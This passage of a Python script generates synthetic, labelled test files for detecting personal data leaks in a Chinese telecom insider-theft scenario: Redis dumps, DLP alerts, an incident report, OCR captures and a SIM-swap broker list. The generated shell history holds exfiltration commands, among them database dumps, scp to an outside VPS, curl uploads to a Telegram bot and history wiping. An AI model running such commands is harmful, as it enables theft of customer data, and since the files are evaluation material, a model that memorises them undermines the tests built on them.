            fields.append(("addr", L(p.addr.s(0), ADDR)))
        fields.append(("imei", L(p.imei, IMEI)))
        fields.append(("last_ip", L(p.ip, IP)))
        fields.append(("reg_ts", ms_ts()))
        fields.append(("pkg", R.choice(PKGS)))
        for k, v in fields:
            d.ln(k)
            d.ln(v)
    d.ln(prompt, "TYPE geo:user:last")
    d.ln("zset")
    for p in ps[:4]:
        d.ln(prompt, "GEOPOS geo:user:last ", L(p.phone, PH))
        d.ln(L(repr(p.lon + 1e-9)[:18], GEO))
        d.ln(L(repr(p.lat + 1e-9)[:18], GEO))
    d.ln(prompt, "KEYS auth:token:*")
    toks = [token(43) for _ in range(4)]
    for t in toks:
        d.ln("auth:token:", L(t, CRED))
    for t, p in zip(toks[:3], ps[8:11]):
        d.ln(prompt, "GET auth:token:", L(t, CRED))
        d.ln('{"uid":', str(R.randint(10 ** 8, 10 ** 9)), ',"mobile":"', L(p.phone, PH), '","device":"', L(p.imei, IMEI), '","exp":', str(1718256400 + R.randint(0, 9999)), "}")
        d.ln(prompt, "TTL auth:token:", L(t, CRED))
        d.ln(str(R.randint(100, 86400)))
    d.ln(prompt, "HGETALL sim:", L(ps[11].iccid, ICCID))
    for k, v in [("msisdn", L(ps[11].phone, PH)), ("imsi", L(ps[11].imsi, IMSI)), ("status", "active"), ("open_date", "2021-08-14"),
                 ("puk_ver", "3"), ("batch", "B" + order_no(n=12))]:
        d.ln(k)
        d.ln(v)
    d.ln(prompt, "CONFIG GET requirepass")
    d.ln("requirepass")
    d.ln(L(REDIS_PWD, CRED))
    d.ln(prompt, "CONFIG GET masterauth")
    d.ln("masterauth")
    d.ln(L("M@ster_" + token(10), CRED))
    d.ln(prompt, "exit")
    d.ln("")
    # second session without --raw: non-ASCII shown as \\x escapes
    d.ln("$ redis-cli -h ", h, " -p 6379 -n 2")
    d.ln(prompt.replace("6379> ", "6379[2]> "), "AUTH ", L(REDIS_PWD, CRED))
    d.ln("OK")
    p2 = people(6)
    for i, p in enumerate(p2):
        d.ln(prompt.replace("6379> ", "6379[2]> "), "HGETALL cust:", str(R.randint(10 ** 7, 10 ** 8)))
        fields = [("name", L(redis_esc(p.name), N)), ("msisdn", L(p.phone, PH)), ("cert", L(p.id, RID))]
        if i % 2 == 0:
            fields.append(("addr", L(redis_esc(p.addr.s(1)), ADDR)))
        fields.append(("mgr", L(redis_esc(R.choice(MANAGERS).name), N)))
        fields.append(("updated", ms_ts()))
        n = 1
        for k, v in fields:
            d.ln("%2d) \"%s\"" % (n, k))
            d.ln("%2d) \"" % (n + 1), v, "\"")
            n += 2
    d.ln(prompt.replace("6379> ", "6379[2]> "), "GET session:", uuid4())
    p = people(1)[0]
    d.ln('"{\\"sid\\":\\"', rhex(32), '\\",\\"uid\\":', str(R.randint(10 ** 6, 10 ** 7)), ',\\"mobile\\":\\"', L(p.phone, PH),
         '\\",\\"ip\\":\\"', L(p.ip, IP), '\\",\\"ua\\":\\"okhttp/4.12.0\\"}"')
    d.ln(prompt.replace("6379> ", "6379[2]> "), "LRANGE queue:sms:verify 0 3")
    for q in people(3):
        d.ln('%d) "%s|' % (R.randint(1, 4), ms_ts()), L(q.phone, PH), '|tpl_SMS_24061201|10086"')
    d.ln(prompt.replace("6379> ", "6379[2]> "), "quit")
    return d


# ----------------------------------------------------------------------------- 9 shell history


def f_shell():
    d = Doc("insider_bash_history_GZ-PC-0231.txt")
    d.ln("### collected by EDR 5.2.0.7781 from GZ-PC-0231 (", L(INSIDER.ws_ip, IP), ") /home/liujg/.bash_history  sha256=", sha256hex())
    t = [1718170023]

    def c(*parts):
        t[0] += R.randint(4, 300)
        d.ln("#", str(t[0]))
        d.ln(*parts)

    c("cd /data/export && ls -lh")
    c("mysql -h ", L(CRM_DB, IP), " -P 3306 -u crm_ro -p'", L(MYSQL_PWD, CRED), "' crm_prod -e \"select count(*) from t_cust_info where city_code='0755'\"")
    c("mysql -h ", L(CRM_DB, IP), " -u crm_ro -p", L(MYSQL_PWD, CRED), " crm_prod -e \"select cust_name,cert_no,mobile,address from t_cust_info where city_code in ('020','0755') limit 50000\" > /tmp/.cache/gz_sz_0612.txt")
    c("wc -l /tmp/.cache/gz_sz_0612.txt")
    ps = people(10)
    c("grep ", L(ps[0].phone, PH), " /tmp/.cache/gz_sz_0612.txt")
    c("grep -n '", L(ps[1].id, RID), "' /tmp/.cache/*.txt")
    c("mysql -h ", L(CRM_DB, IP), " -u crm_ro -p'", L(MYSQL_PWD, CRED), "' crm_prod -e \"select * from t_cust_info where cert_no='", L(ps[2].id, RID),
      "' or mobile='", L(ps[2].phone, PH), "'\"")
    c("mysql -h ", L(CRM_DB, IP), " -u crm_ro -p'", L(MYSQL_PWD, CRED), "' crm_prod -e \"update t_cust_info set remark='' where cust_name='",
      L(ps[3].name, N), "'\"")
    for p in ps[4:7]:
        c("cp /data/ocr/idcard/2024/06/", L(p.id, RID), "_", L(p.name, N), "_front.jpg /tmp/.cache/img/")
    c("ls /data/ocr/idcard/2024/06 | head -200 > /tmp/.cache/idlist.txt")
    c("redis-cli -h ", L(REDIS_HOST, IP), " -a '", L(REDIS_PWD, CRED), "' --raw hgetall user:", L(ps[7].phone, PH), ":profile")
    c("redis-cli -h ", L(REDIS_HOST, IP), " -a '", L(REDIS_PWD, CRED), "' --scan --pattern 'user:*:profile' | head -50000 > /tmp/.cache/keys.txt")
    c("echo \"", L(ps[8].name, N), " ", L(ps[8].phone, PH), " ", L(ps[8].addr.s(1), ADDR), "\" >> /tmp/.cache/vip.txt")
    c("python3 /tmp/.cache/fmt.py --in /tmp/.cache/gz_sz_0612.txt --out /tmp/.cache/gz_sz_0612.csv --encoding gbk")
    c("zip -r -P '", L(ZIP_PWD, CRED), "' /tmp/.cache/gz_0612.zip /tmp/.cache/*.csv /tmp/.cache/img")
    c("md5sum /tmp/.cache/gz_0612.zip")
    c("sshpass -p '", L(VPS_PWD, CRED), "' scp -P 22022 -o StrictHostKeyChecking=no /tmp/.cache/gz_0612.zip root@", L(VPS_IP, IP), ":/root/in/")
    bot = "6712345678:AAH" + token(32)
    c("curl -s -F chat_id=-1001928374650 -F document=@/tmp/.cache/gz_0612.zip https://api.telegram.org/bot", L(bot, CRED), "/sendDocument")
    c("curl -s -H 'Authorization: Bearer ", L(token(40, "tsk_"), CRED), "' -T /tmp/.cache/gz_sz_0612.csv https://transfer.sh-mirror.net/gz_sz_0612.csv")
    c("curl -X POST 'https://api.yzsys-verify.com/v2/bankcard/verify4' -d 'appKey=ak_2f9c81d0&appSecret=", L(APP_SECRET, CRED), "&name=",
      L(url_utf8(ps[9].name), N), "&idNo=", L(ps[9].id, RID), "&mobile=", L(ps[9].phone, PH), "&bankCardNo=", L(ps[9].card, BC), "'")
    c("scp /tmp/.cache/vip.txt liujg@", L(lan_ip(), IP), ":/home/liujg/")
    c("wget -q http://", L(VPS_IP, IP), ":8080/tools/fmt_v2.3.1.tar.gz -O /tmp/.cache/fmt.tgz")
    c("du -sh /tmp/.cache; ls -lh /tmp/.cache")
    c("shred -u /tmp/.cache/*.txt; rm -rf /tmp/.cache")
    c("history -c")
    d.ln("")
    d.ln("### terminal scrollback recovered from tmux buffer (tmux-resurrect, pane %3)")
    d.ln("liujg@GZ-PC-0231:/data/export$ ls -lh /tmp/.cache")
    d.ln("total 1.9G")
    for fn, sz in [("gz_sz_0612.txt", "1.2G"), ("gz_sz_0612.csv", "618M"), ("idlist.txt", "11K"), ("keys.txt", "2.1M"), ("vip.txt", "312")]:
        d.ln("-rw-r--r-- 1 liujg liujg %5s Jun 12 19:%02d %s" % (sz, R.randint(0, 59), fn))
    d.ln("drwxr-xr-x 2 liujg liujg  4.0K Jun 12 19:31 img")
    d.ln("liujg@GZ-PC-0231:/data/export$ head -4 /tmp/.cache/gz_sz_0612.txt")
    d.ln("cust_name\tcert_no\tmobile\taddress")
    for p in people(3):
        d.ln(L(p.name, N), "\t", L(p.id, RID), "\t", L(p.phone, PH), "\t", L(p.addr.s(0), ADDR))
    d.ln("liujg@GZ-PC-0231:/data/export$ md5sum /tmp/.cache/gz_0612.zip")
    d.ln(md5hex(), "  /tmp/.cache/gz_0612.zip")
    d.ln("liujg@GZ-PC-0231:/data/export$ sshpass -p '", L(VPS_PWD, CRED), "' scp -P 22022 /tmp/.cache/gz_0612.zip root@", L(VPS_IP, IP), ":/root/in/")
    d.ln("gz_0612.zip                                   100%  612MB  11.4MB/s   00:53")
    return d


# ----------------------------------------------------------------------------- 10 incident report


def f_incident():
    d = Doc("incident_report_IR-2024-0613-002.md")
    ins = INSIDER
    s0, s1, s2 = SECOPS
    comp = people(2)
    samp = people(4)
    d.ln("# 个人信息泄露事件报告（IR-2024-0613-002）")
    d.ln("")
    d.ln("| 项目 | 内容 |\n|---|---|")
    d.ln("| 报告单位 | 广州分公司 网络与信息安全部 |")
    d.ln("| 报告人 | ", L(s1.name, N), "（安全运营中心），手机 ", L(s1.phone, PH), " |")
    d.ln("| 审核人 | ", L(s2.name, N), " |")
    d.ln("| 事件等级 | 较大（Ⅲ级），涉及用户约 38.4 万户 |")
    d.ln("| 报告时间 | 2024-06-14 10:00 |")
    d.ln("| 依据 | 《电信和互联网用户个人信息保护规定》（工业和信息化部令第24号）第十四条 |")
    d.ln("")
    d.ln("## 一、事件经过")
    d.ln("")
    d.ln("2024年6月12日19时42分，出站数据防泄漏网关（DLP-GW 7.4.2，规则 PI-OUTBOUND-07）拦截了一封由政企客户部员工",
         L(ins.name, N), "（工号 GD104523）发往外部 QQ 邮箱的邮件，正文含 18 条客户四要素记录。经回溯，该员工于 6 月 12 日 14 时起",
         "自工位终端（", L(ins.ws_ip, IP), "）使用只读账号 crm_ro 连接 CRM 数据库（", L(CRM_DB, IP), "），导出广州、深圳两地客户",
         "约 38.4 万条，打包为 gz_0612.zip（612 MB，SHA-256 ", sha256hex(), "）后，经 scp 上传至境外主机 ", L(VPS_IP, IP),
         "，并通过 Telegram 机器人转发。")
    d.ln("")
    d.ln("6月13日，客户", L(comp[0].name, N), "先生" if comp[0].male else "女士", "（手机 ", L(comp[0].phone, PH), "）通过 10086 投诉称接到自称“客服”的诈骗电话，",
         "对方能准确说出其身份证号和家庭住址；同日客户", L(comp[1].name, N), "先生" if comp[1].male else "女士", "致电 12321 网络不良与垃圾信息举报受理中心反映类似情况。")
    d.ln("")
    d.ln("## 二、泄露数据范围")
    d.ln("")
    d.ln("涉及字段：客户姓名、证件号码、手机号码、联系地址、套餐及 ARPU，部分记录含代扣银行卡号。样本（已脱敏）如下：")
    d.ln("")
    d.ln("| 姓名 | 证件号码 | 手机号码 | 地址 |\n|---|---|---|---|")
    for p in samp:
        d.ln("| %s | %s | %s | %s%s**** |" % (mask_name(p.name), mask_id(p.id), mask_phone(p.phone), p.addr.city if p.addr.prov != p.addr.city else "", p.addr.dist))
    d.ln("")
    d.ln("黑产群内流出的样本经比对与 CRM 记录一致（比对 500 条，命中 497 条，命中率 99.4%）。")
    d.ln("")
    d.ln("## 三、处置措施")
    d.ln("")
    d.ln("1. 6月13日 09:10 冻结 crm_ro 账号及该员工全部系统权限，重置 Redis 访问口令；")
    d.ln("2. 向 Telegram 及相关网盘发送删除通知，取证包哈希 ", md5hex(), "；")
    d.ln("3. 对外包厂商 深圳市张记信息技术有限公司（统一社会信用代码 ", make_uscc("440305"), "）开展专项审计；")
    d.ln("4. 按规定 24 小时内向省通信管理局报告，报告编号 GDCA-2024-", rdig(6), "；")
    d.ln("5. 组织外呼提醒受影响客户，外呼号码 10086、1008611，脚本版本 v1.3.2。")
    d.ln("")
    d.ln("## 四、责任认定")
    d.ln("")
    d.ln("经调查，", L(ins.name, N), "承认将数据以每条 0.8 元出售给“王哥”（真实姓名", L(BUYER.name, N), "，QQ 邮箱 ",
         L(BUYER.qqmail, EM), "），获利约 2.3 万元。案件已移交广州市公安局天河区分局（受案回执 穗公天受字〔2024〕", rdig(5), "号）。")
    d.ln("移送材料载明当事人身份证号 ", L(ins.id, RID), "，现住 ", L(ins.addr.s(1), ADDR), "，其私人手机 ", L(fmt_phone(ins.phone2, 5), PH), " 已由警方扣押。")
    d.ln("其直属主管", L(MANAGERS[1].name, N), "负有管理责任。")
    d.ln("")
    d.ln("## 五、整改")
    d.ln("")
    d.ln("- 批量导出（>1,000 条）改为双人审批（第十三条）；")
    d.ln("- DLP 规则 PI-OUTBOUND-07 阈值由 20 条下调至 5 条，规则库升级至 2024.06.2；")
    d.ln("- 联系人：", L(s0.name, N), "，", L(s0.corp_mail, EM), "。")
    return d


# ----------------------------------------------------------------------------- 11 OCR


def spaced(s):
    return " ".join(s)


def f_ocr():
    d = Doc("ocr_crm_screenshots.txt")
    for k in range(9):
        p = people(1)[0]
        d.ln("=== OCR 结果  截图_20240612_14%02d%02d.png  (引擎 PaddleOCR 2.7.3, 置信度 0.%d) ===" % (R.randint(0, 59), R.randint(0, 59), R.randint(81, 97)))
        d.ln("中国移动  客户关系管理系统 CRM 4.0      当前工号: GD104523    2024-06-12 14:%02d" % R.randint(10, 59))
        d.ln("客户查询 > 客户概况 > 基本信息")
        style = k % 3
        if style == 0:
            d.ln("客 户 名 称 : ", L(spaced(p.name), N), "          客户编号: ", " ".join([rdig(4), rdig(4), rdig(4)]))
            d.ln("证件类型 : 居民身份证    证件号码 : ", L(fmt_id(p.id, 2), RID))
            d.ln("出生日期 : ", L(fmt_dob(p.dob, 3), DOB), "        性 别 : ", "男" if p.male else "女")
            d.ln("联系电话 : ", L(FW(p.phone), PH), "      网龄 : %d 年" % R.randint(1, 20))
        elif style == 1:
            d.ln("客户名称：", L(p.name, N), "    |    证件号码：", L(FW(p.id), RID), "    |    VIP等级：钻石")
            d.ln("手机号码：", L(fmt_phone(p.phone, 6), PH), "    |    出生日期：", L(fmt_dob(p.dob, 5), DOB))
            if p.land:
                d.ln("固定电话：", L(fmt_land(p.area, p.land, 0), PH), "    |    邮箱：", L(p.email, EM))
            else:
                d.ln("固定电话：--    |    邮箱：", L(p.email, EM))
        else:
            d.ln("姓名 ", L(p.name, N), "  证件 ", L(p.id, RID), "  号码 ", L(p.phone, PH))
            d.ln("余额 ￥%d.%02d   积分 %d   信用度 %d   入网 %s" % (R.randint(0, 500), R.randint(0, 99), R.randint(0, 30000), R.randint(100, 900), past_dt().strftime("%Y-%m-%d")))
        a = p.addr.s(0)
        cut = R.randint(len(a) // 3, 2 * len(a) // 3)
        d.ln("联系地址 : ", L(a[:cut], ADDR))
        d.ln("           ", L(a[cut:], ADDR))
        d.ln("--------------------------------------------------------------")
        d.ln("终端信息    IMEI: ", L(p.imei if k % 2 else "%s-%s-%s-%s" % (p.imei[:2], p.imei[2:8], p.imei[8:14], p.imei[14]), IMEI),
             "   型号: ", R.choice(["HUAWEI Mate 60", "Xiaomi 13", "iPhone 13"]), "   系统 ", R.choice(["4.0.0.126", "17.5.1", "14.0.3"]))
        d.ln("SIM 卡     ICCID: ", L(p.iccid, ICCID), "   IMSI: ", L(p.imsi if k % 3 else FW(p.imsi), IMSI))
        if k % 3 == 1:
            d.ln("代扣账户   ", R.choice(["工商银行", "建设银行", "招商银行"]), "  卡号 ", L(fmt_card(p.card, 1), BC), "   签约日期 ", past_dt().strftime("%Y-%m-%d"))
        if k % 4 == 2 and p.plate:
            d.ln("车辆信息   车牌 ", L(plate_str(p.plate, 1), PLATE), "   ETC 卡号 ", neg(lambda: rdig(20)))
        d.ln("最近登录   ", L(p.ip, IP), "   2024-06-1%d %02d:%02d   设备指纹 %s" % (R.randint(0, 2), R.randint(0, 23), R.randint(0, 59), rhex(16)))
        d.ln("[ 查询 ]  [ 修改 ]  [ 打印 ]  [ 导出 ]          第 1 / %d 页   会话ID %s" % (R.randint(1, 9), rhex(24).upper()))
        d.ln("")
    d.ln("=== OCR 结果  截图_20240612_150233.png  (置信度 0.74) ===")
    d.ln("批量查询结果 (共 6 条)    导出时间 2024-06-12 15:02")
    d.ln("序号  姓 名      手 机 号            证 件 号")
    for i, p in enumerate(people(6)):
        nm = p.name if len(p.name) > 2 else p.name[0] + "　" + p.name[1]
        d.ln(" %d    " % (i + 1), L(nm, N), "    ", L(FW(p.phone) if i % 2 else fmt_phone(p.phone, 5), PH), "    ", L(fmt_id(p.id, 2) if i % 3 == 0 else p.id, RID))
    d.ln("当前用户: ", L(INSIDER.name, N), "  (GD104523)  终端 ", L(INSIDER.ws_ip, IP))
    return d


# ----------------------------------------------------------------------------- 12 TSV


def f_tsv():
    d = Doc("vip_customers_202406_export.tsv")
    mgr = MANAGERS[0]
    d.ln("广州分公司 2024年6月 高价值客户清单（内部资料 严禁外传）")
    d.ln("导出人：", L(EXPORTER.name, N), "\t导出时间：2024-06-12 09:31:22\t共 24 条\t数据来源：CRM 4.0 / BOSS 3.2.1")
    d.ln("")
    d.ln("\t客户基本信息\t\t\t联系方式\t\t\t证件信息\t\t车辆信息\t账户信息\t\t服务信息\t住址信息")
    d.ln("序号\t姓名\t性别\t出生日期\t手机\t固话\t邮箱\t证件类型\t证件号码\t车牌号\t代扣卡号\t月均消费(元)\t客户经理\t家庭住址")
    total = 0.0
    for i, p in enumerate(people(22)):
        arpu = R.uniform(200, 980)
        total += arpu
        cells = [str(i + 1), L(p.name, N), "男" if p.male else "女", L(fmt_dob(p.dob, R.choice([0, 4, 3])), DOB),
                 L(fmt_phone(p.phone, R.choice([0, 0, 5, 6])), PH),
                 L(fmt_land(p.area, p.land), PH) if p.land else "", L(p.email, EM) if R.random() < 0.6 else ""]
        if p.passport and R.random() < 0.5:
            cells += ["护照", L(p.passport, PP)]
        else:
            cells += ["居民身份证", L(fmt_id(p.id), RID)]
        cells.append(L(plate_str(p.plate), PLATE) if p.plate else "")
        cells.append(L(fmt_card(p.card, R.choice([0, 1])), BC) if R.random() < 0.5 else "")
        cells.append("%.2f" % arpu)
        cells.append(L(R.choice(MANAGERS).name, N))
        cells.append(L(p.addr.s(R.choice([0, 1, 3])), ADDR))
        d.ln([[("\t" if j else ""), c] for j, c in enumerate(cells)])
        if i == 10:
            d.ln("小计\t\t\t\t\t\t\t\t\t\t\t%.2f\t\t" % total)
    d.ln("合计\t\t\t\t\t\t\t\t\t\t\t%.2f\t\t" % total)
    d.ln("")
    d.ln("备注：1. 本表用于 2024 年 Q2 高价值客户维系，专项编号 WX-2024-Q2-", rdig(4), "；2. 如有疑问请联系 ", L(mgr.name, N), "（分机 8231）；3. 服务热线 10086。")
    return d


# ----------------------------------------------------------------------------- 13 masked dataset


def f_masked():
    d = Doc("pseudonymised_share_dataset_v2.csv")
    d.ln("# 共享给合作方 建模用 — 已按《数据脱敏规范 v2.1》处理；联系人 ", L(EXPORTER.name, N), "（数据管理部，分机 8231）")
    d.ln("# salt_id=s2024q2  hash=SHA-256(msisdn||salt)  token=HMAC-SHA256 截断 16 位  生成于 2024-06-10  行数 40")
    d.ln("user_token,name_masked,msisdn_masked,msisdn_hash,cert_masked,birth_year,age_band,gender,city,email_masked,ip_masked,arpu,pkg,last_active_ms,remark")
    ps = people(40)
    for i, p in enumerate(ps):
        cells = ["tok_" + rhex(16), mask_name(p.name), mask_phone(p.phone),
                 hashlib.sha256((p.phone + "s2024q2").encode()).hexdigest(), mask_id(p.id, 4), str(p.dob.year),
                 "%d-%d" % (max(18, (2024 - p.dob.year) // 10 * 10), (2024 - p.dob.year) // 10 * 10 + 9), "M" if p.male else "F",
                 p.city, mask_email(p.email), ".".join(p.ip.split(".")[:2]) + ".*.*", "%.2f" % R.uniform(19, 420), R.choice(PKGS), ms_ts(), ""]
        if i == 6:
            cells[14] = ["回访电话 ", L(p.phone, PH)]           # leak in free text
        if i == 14:
            cells[1] = L(p.name, N)                            # masking rule missed this row
        if i == 21:
            cells[2] = L(p.phone, PH)
        if i == 29:
            cells[4] = L(p.id, RID)
        if i == 33:
            cells[9] = L(p.email, EM)
        if i == 37:
            cells[14] = ['"装机地址：', L(p.addr.s(1), ADDR), '"']
        if i == 18:
            cells[14] = "转 10086 人工；订单 " + order_no(n=18)
        if i == 25:
            cells[14] = "sid=" + uuid4()
        if i == 11:
            cells[10] = L(p.ip, IP)
        d.ln([[("," if j else ""), c] for j, c in enumerate(cells)])
    return d


# ----------------------------------------------------------------------------- 14 SIM card list


def f_sim():
    d = Doc("kashang_sim_card_list_0611.txt")
    d.ln("【卡商内部】2024-06-11 回收卡 + 补卡资料  第 37 批  （勿外传）  共 20 张  结算 200/张  批次 B" + order_no(n=12))
    d.ln("")
    d.ln("格式一：号码 | ICCID | IMSI | 服务密码 | 机主 | 证件 | 状态")
    for p in people(8):
        d.ln(L(p.phone, PH), " | ", L(p.iccid, ICCID), " | ", L(p.imsi, IMSI), " | ", L(p.svc_pwd, CRED), " | ", L(p.name, N), " | ",
             L(p.id, RID), " | ", R.choice(["在网", "在网", "欠停", "在网(已补卡)"]))
    d.ln("")
    d.ln("格式二（补卡记录）：")
    for p in people(5):
        new_iccid = make_iccid(p.carrier)
        d.ln("------")
        d.ln("机主：", L(p.name, N), "    证件：", L(p.id, RID))
        d.ln("号码：", L(fmt_phone(p.phone, R.choice([0, 6, 5])), PH), "    服务密码：", L(p.svc_pwd, CRED))
        d.ln("旧卡 ICCID：", L(p.iccid, ICCID), "  →  新卡 ICCID：", L(new_iccid, ICCID))
        d.ln("IMSI：", L(p.imsi, IMSI), "    补卡营业厅：", R.choice(["天河城营业厅", "北京路营业厅", "江南西营业厅"]), "（营业厅座机 020-8%s 不打）" % rdig(7))
        d.ln("补卡时间：2024-06-1%d %02d:%02d  工单 BK%s" % (R.randint(0, 1), R.randint(9, 20), R.randint(0, 59), order_no(n=16)))
    d.ln("")
    d.ln("格式三（终端绑定，给接码平台）：")
    d.ln("IMEI,IMSI,MSISDN,型号,绑定时间")
    for p in people(7):
        d.ln(L(p.imei, IMEI), ",", L(p.imsi, IMSI), ",", L(p.phone if R.random() < 0.7 else "86" + p.phone, PH), ",",
             R.choice(["Redmi Note 12", "HUAWEI nova 11", "OPPO A2", "vivo Y36"]), ",", ms_ts())
    d.ln("")
    d.ln("物联网卡（不实名，1440 / 1064 开头 13 位号段）另有 40 张 —— 仅做流量，不算钱")
    d.ln("收款：USDT-TRC20  单价 200  合计 4,000  哈希 " + sha256hex())
    return d


# ----------------------------------------------------------------------------- 15 DLP alerts


OTHER_WS = {}
OTHER_WS_HOST = {}


def f_alerts():
    d = Doc("dlp_gateway_alerts_20240612.jsonl")
    for u in ["chenxm", "gz_temp01", "huanglj"]:
        ip = lan_ip()
        OTHER_WS[ip] = u
        OTHER_WS_HOST[ip] = "GZ-PC-0%d" % R.randint(100, 400)
    clock = dt.datetime(2024, 6, 12, 9, 40, 3)
    DST_IP = {"transfer.sh-mirror.net": VPS_IP, "pastebin.com": "104.20.%d.%d" % (R.randint(60, 70), R.randint(1, 254)),
              "api.telegram.org": "149.154.167.220"}
    for i in range(18):
        p = people(1)[0]
        src = INSIDER.ws_ip if i % 3 else R.choice(sorted(OTHER_WS))
        ex = []
        k = i % 6
        if k == 0:
            ex = [L(p.name, N), ",", L(p.id, RID), ",", L(p.phone, PH)]
            mt = "ID_NUMBER"
        elif k == 1:
            ex = ["...", L(mask_id(p.id), None), " ", L(p.phone, PH), " ", L(p.addr.s(1), ADDR), "..."]
            mt = "MOBILE"
        elif k == 2:
            ex = ["卡号 ", L(fmt_card(p.card, 1), BC), " 户名 ", L(p.name, N)]
            mt = "BANK_CARD"
        elif k == 3:
            ex = ["password=", L(p.pwd, CRED), "&user=", L(p.email, EM)]
            mt = "CREDENTIAL"
        elif k == 4:
            ex = [mask_name(p.name), " ", mask_phone(p.phone), " (masked, below threshold)"]
            mt = "MOBILE_MASKED"
        else:
            ex = ["imsi=", L(p.imsi, IMSI), " imei=", L(p.imei, IMEI)]
            mt = "DEVICE_ID"
        dst = R.choice(["pastebin.com", "mail.qq.com", "transfer.sh-mirror.net", "api.telegram.org"])
        clock += dt.timedelta(seconds=R.randint(300, 2700), milliseconds=R.randint(0, 999))
        ts_ms = int((clock - dt.timedelta(hours=8) - dt.datetime(1970, 1, 1)).total_seconds() * 1000)
        obj = ['{"alert_id":"DLP-20240612-', "%06d" % (1200 + i * 17), '","ts":"', clock.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+08:00" % (ts_ms % 1000),
               '"', ',"ts_ms":', str(ts_ms), ',"src_ip":"', L(src, IP), '","user":"', OTHER_WS.get(src, "liujg"), '","host":"',
               OTHER_WS_HOST.get(src, "GZ-PC-0231"), '","channel":"', R.choice(["HTTPS", "SMTP", "WEBMAIL", "IM-FILE"]), '","dst":"',
               dst, '"']
        if i % 4 == 0 and dst in DST_IP:
            obj += [',"dst_ip":"', L(DST_IP[dst], IP), '"']
        obj += [',"file":{"name":"', R.choice(["cust_0612.csv", "gz_0612.zip", "客户清单.xlsx", "-"]), '","size":', str(R.randint(1000, 900000000)),
                ',"sha256":"', sha256hex(), '"},"rule":"', R.choice(["PI-OUTBOUND-03", "PI-OUTBOUND-07", "PI-BULK-01", "PI-BANKCARD-01"]),
                '","severity":"', R.choice(["high", "critical", "medium"]), '","match":{"type":"', mt, '","count":', str(R.randint(1, 5000)),
                ',"excerpt":"', mapv(ex, json_esc), '"},"action":"', R.choice(["block", "quarantine", "alert"]), '","engine":"7.4.2.1180"}']
        d.ln(obj)
    return d


# ----------------------------------------------------------------------------- 16 sharedStrings.xml


def f_xlsx():
    d = Doc("xlsx_extracted_xl_sharedStrings.xml")
    d.ln('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', nl="\r\n")
    items = [["客户回访名单（2024年6月）"], ["姓名"], ["手机号码"], ["身份证号"], ["家庭住址"], ["邮箱"], ["回访人"], ["备注"], ["已回访"],
             ["未接通"], ["张记通讯器材经营部 &amp; 王氏集团 联合活动"]]
    ppl = people(15)
    for p in ppl:
        items.append([L(p.name, N)])
        items.append([L(p.phone, PH)] if R.random() < 0.7 else [' ', L(p.phone, PH)])
        items.append([L(p.id, RID)])
        items.append(mapv([L(p.addr.s(R.choice([0, 1])), ADDR)], xml_esc))
        if R.random() < 0.5:
            items.append([L(p.email, EM)])
    for m in MANAGERS[:3]:
        items.append([L(m.name, N)])
    items.append(["客户要求 10086 外呼改到周末；工单 " + order_no(n=18)])
    o = people(1)[0]
    items.append(["家属", L(o.name, N), "代接，号码 ", L(o.phone, PH)])
    d.w('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (len(items) + 37, len(items)))
    for i, it in enumerate(items):
        txt = flat(it)
        if i == 9:
            d.w('<si><r><rPr><b/><sz val="11"/><color rgb="FFFF0000"/><rFont val="宋体"/><charset val="134"/></rPr><t>未接通</t></r>'
                '<r><rPr><sz val="11"/><rFont val="宋体"/></rPr><t xml:space="preserve">（第2次）</t></r></si>')
            continue
        if txt.startswith(" "):
            d.w('<si><t xml:space="preserve">', it, "</t></si>")
        else:
            d.w("<si><t>", it, "</t>", '<phoneticPr fontId="1" type="noConversion"/>' if i < 8 else "", "</si>")
    d.w("</sst>")
    return d


# ============================================================================= main

FILES = [f_sql_dump, f_combo, f_chat, f_http, f_mail, f_gbk_csv, f_mongo, f_redis, f_shell, f_incident,
         f_ocr, f_tsv, f_masked, f_sim, f_alerts, f_xlsx]


def build():
    docs = [f() for f in FILES]
    for doc in docs:
        labs = sorted(doc.labels)
        for (s1, e1, *_), (s2, e2, *_) in zip(labs, labs[1:]):
            assert e1 <= s2, (doc.name, s1, e1, s2, e2)
        for s, e, t, v in labs:
            assert bytes(doc.buf[s:e]).decode(doc.enc) == v, (doc.name, s, v)
    return docs


def main():
    ap = argparse.ArgumentParser(description=" ".join(__doc__.split("\n\n")[0].split()))
    ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
    args = ap.parse_args()
    os.makedirs(args.out, exist_ok=True)
    docs = build()
    rows = []
    for doc in docs:
        with open(os.path.join(args.out, doc.name), "wb") as f:
            f.write(bytes(doc.buf))
        for s, e, t, v in doc.labels:
            rows.append((doc.name, s, e, t))
    rows.sort()
    with open(os.path.join(args.out, "labels.jsonl"), "w", encoding="utf-8") as f:
        for name, s, e, t in rows:
            f.write(json.dumps({"file": name, "start": s, "end": e, "type": t}, ensure_ascii=False) + "\n")
    counts = {}
    for r in rows:
        counts[r[3]] = counts.get(r[3], 0) + 1
    print("%d files, %d labels" % (len(docs), len(rows)), file=sys.stderr)
    for t in sorted(counts):
        print("  %-26s %5d" % (t, counts[t]), file=sys.stderr)


if __name__ == "__main__":
    main()
